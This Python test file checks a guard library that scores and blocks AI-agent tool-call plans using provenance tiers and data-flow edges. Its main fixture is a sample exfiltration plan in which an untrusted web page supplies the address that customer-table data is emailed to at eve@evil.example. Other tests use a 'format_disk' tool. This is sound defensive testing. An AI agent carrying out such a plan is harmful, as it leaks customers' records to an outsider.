"""A whole plan, ahead of time: rules and energies from declared tiers and edges."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatling_guard import (
    Allowed,
    Blocked,
    BlockedError,
    ExecutionPlan,
    Guard,
    Held,
    HeldError,
    parse_plan,
)
from gatling_guard.pipeline import stages

TOOLS = [
    ("read_page", {"url": "string"}),
    ("read_row", {"id": "string"}),
    ("send_email", {"to": "string", "body": "string"}),
    ("delete_user", {"user": "string"}),
]


def new_guard(**options: Any) -> Guard:
    guard = Guard(**options)
    for name, fields in TOOLS:
        properties = {k: {"type": t} for k, t in fields.items()}
        tool = {"name": name, "parameters": {"type": "object", "properties": properties}}
        declared = {"provenance": "internal"} if name == "read_row" else {}
        guard.register(tool, **declared)
    return guard


def node(i: int, tool: str, tier: int = 1, **arguments: Any) -> dict[str, Any]:
    return {"node_id": i, "tool_name": tool, "provenance_tier": tier, "arguments": arguments}


def exfiltration(tier: int = 3) -> ExecutionPlan:
    return parse_plan({
        "nodes": [
            node(1, "read_page", tier, url="https://forum.example"), node(2, "read_row", 1, id="7"),
            node(3, "send_email", 1, to="eve@evil.example", body="row 7 of the customer table"),
        ],
        "edges": [{"source": 1, "target": 3, "argument": "/to"},
                  {"source": 2, "target": 3, "argument": "/body"}],
    })  # fmt: skip


def test_a_plan_that_sends_records_to_an_address_from_a_page_is_stopped() -> None:
    """R37, R39: the same plan with an address the user gave is allowed."""
    guard = new_guard()
    bad = guard.check(exfiltration())
    assert isinstance(bad, (Held, Blocked))
    assert [part.action for part in bad.parts][:2] == ["allow", "allow"]
    assert bad.energy.by_node()["3"] == bad.energy.total > 8
    with pytest.raises((BlockedError, HeldError)) as caught:
        bad.unwrap()
    assert "eve" not in str(caught.value)
    good = guard.check(exfiltration(), instruction="Send row 7 to eve@evil.example by email")
    assert isinstance(good, Allowed)
    assert good.unwrap() == exfiltration()


def test_taint_passes_along_five_hops() -> None:
    """R53: what depends on untrusted data, however far, is untrusted."""
    hops = [node(i, "read_row", 1, id=str(i)) for i in range(1, 6)]
    plan: dict[str, Any] = {
        "nodes": [node(0, "read_page", 3, url="u"), *hops, node(6, "delete_user", 1, user="ann")],
        "edges": [[i, i + 1] for i in range(6)],
    }
    guard = new_guard()
    assert guard.check(parse_plan(plan)).energy.provenance > 0
    clean = {**plan, "edges": plan["edges"][1:]}
    assert guard.check(parse_plan(clean)).energy.provenance == 0


def test_unknown_tools_and_faults_block(monkeypatch: pytest.MonkeyPatch) -> None:
    """R140: whole plans fail closed as single calls do."""
    plan = parse_plan({"nodes": [node(1, "format_disk")]})
    decision = new_guard().check(plan)
    assert isinstance(decision, Blocked)
    assert any("format_disk" in reason for reason in decision.reasons)
    monkeypatch.setattr(stages, "verdict_of", lambda work: 1 / 0)
    broken = new_guard().check(exfiltration())
    assert isinstance(broken, Blocked)
    assert broken.reasons[0].startswith("guard.error: ZeroDivisionError")


def test_parallel_independent_reads_cost_nothing() -> None:
    """G12, R37: two components are no reason for suspicion."""
    plan = parse_plan({"nodes": [node(i, "read_row", 1, id=str(i)) for i in range(30)]})
    assert new_guard().check(plan).energy.total == 0.0


def test_a_large_plan_is_decided_whole_and_in_time() -> None:
    """R13, G15: the 1,000th call counts as much as the first."""
    nodes = [node(i, "read_row", 1, id=str(i)) for i in range(999)]
    nodes.append(node(999, "format_disk"))
    start = time.perf_counter()
    policy = {"version": 1, "repair": {"mode": "off"}}
    decision = new_guard(policy=policy).check(parse_plan({"nodes": nodes}))
    assert time.perf_counter() - start < 20
    assert isinstance(decision, Blocked)
    assert decision.parts[-1].action == "block"
    assert all(part.action == "allow" for part in decision.parts[:-1])


@settings(max_examples=25, deadline=None)
@given(st.permutations(range(3)), st.integers(1, 3))
def test_renumbering_changes_no_energy(order: list[int], tier: int) -> None:
    """R24: ids and order of nodes carry no meaning."""
    plan = exfiltration(tier).model_dump(mode="json")
    name = {"1": "x", "2": "a", "3": "m"}
    moved = {
        "nodes": [{**n, "node_id": name[n["node_id"]]} for n in (plan["nodes"][i] for i in order)],
        "edges": [{**e, "source": name[e["source"]], "target": name[e["target"]]}
                  for e in reversed(plan["edges"])],
    }  # fmt: skip
    guard = new_guard()
    one, two = guard.check(parse_plan(plan)), guard.check(parse_plan(moved))
    assert one.action == two.action
    assert one.energy.total == pytest.approx(two.energy.total, abs=1e-9)


def test_shares_of_a_plan_sum_to_its_total() -> None:
    """R45: explanations add up, per node and per term."""
    energy = new_guard().check(exfiltration()).energy
    assert sum(s.value for s in energy.shares) == pytest.approx(energy.total, abs=1e-6)
    assert {s.edge for s in energy.shares if s.where == "/to"} == {("1", "3")}


def test_a_worse_tier_never_lowers_energy() -> None:
    """R39: tier 3 raises provenance."""
    guard = new_guard()
    totals = [guard.check(exfiltration(tier)).energy.total for tier in (1, 2, 3)]
    assert totals == sorted(totals)


CODE = """
import json
from tests_plan import exfiltration, new_guard
d = new_guard().check(exfiltration())
print(json.dumps([d.action, d.energy.as_dict(), list(d.reasons)]))
"""


def test_decisions_are_bit_equal_in_another_process(tmp_path: Any) -> None:
    """P9: another hash seed, the same bits."""
    (tmp_path / "tests_plan.py").write_text(Path(__file__).read_text())
    seen = set()
    for seed in ("1", "77"):
        run = subprocess.run(
            [sys.executable, "-c", CODE], capture_output=True, text=True, check=True,
            env={"PYTHONHASHSEED": seed, "PYTHONPATH": str(tmp_path)},
        )  # fmt: skip
        seen.add(run.stdout)
    assert len(seen) == 1
    here = new_guard().check(exfiltration())
    assert json.loads(seen.pop())[:2] == [here.action, here.energy.as_dict()]


@pytest.mark.parametrize("arguments", [{}, {"to": ""}, {"to": None}, {"to": "$1.email"}])
def test_an_argument_that_an_edge_will_fill_is_judged_before_it_is_filled(
    arguments: dict[str, Any],
) -> None:
    """R3: leaving a place empty is no way around its source."""
    plan = {
        "nodes": [node(1, "read_page", 3, url="u"), node(2, "send_email", 1, **arguments)],
        "edges": [{"source": 1, "target": 2, "argument": "/to"}],
    }
    decision = new_guard().check(parse_plan(plan), instruction="send an email")
    assert isinstance(decision, (Held, Blocked))
    assert any(share.where == "/to" for share in decision.energy.shares)


def test_a_plan_as_a_mapping_is_parsed_or_blocked() -> None:
    """R147: object or dict; what is no plan is blocked with its faults on record."""
    guard = new_guard()
    assert isinstance(guard.check({"nodes": [node(1, "read_row", id="1")]}), Allowed)
    bad = guard.check({"nodes": [{"node_id": 1}]})
    assert isinstance(bad, Blocked)
    assert "tool_name" in bad.reasons[0]
